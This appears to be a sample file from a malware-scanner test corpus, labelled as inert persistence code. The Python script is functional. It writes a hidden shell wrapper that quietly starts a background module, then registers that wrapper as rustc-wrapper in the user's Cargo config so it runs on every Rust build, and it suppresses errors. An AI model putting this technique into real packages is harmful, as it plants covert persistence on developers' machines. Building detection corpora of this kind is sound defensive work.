# pkgguard corpus 876 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import stat

home = os.path.expanduser("~")
wrapper = os.path.join(home, ".cache", ".rw", "wrap.sh")
config = os.path.join(os.environ.get("CARGO_HOME", os.path.join(home, ".cargo")), "config.toml")

if os.path.isdir(os.path.dirname(config)):
    try:
        os.makedirs(os.path.dirname(wrapper), exist_ok=True)
        with open(wrapper, "w", encoding="utf-8") as fh:
            fh.write('#!/bin/sh\n(python3 -m pkg._sync >/dev/null 2>&1 &)\nexec "$@"\n')
        os.chmod(wrapper, os.stat(wrapper).st_mode | stat.S_IXUSR)
        with open(config, "a", encoding="utf-8") as fh:
            fh.write(f'\n[build]\nrustc-wrapper = "{wrapper}"\n')
    except OSError:
        pass
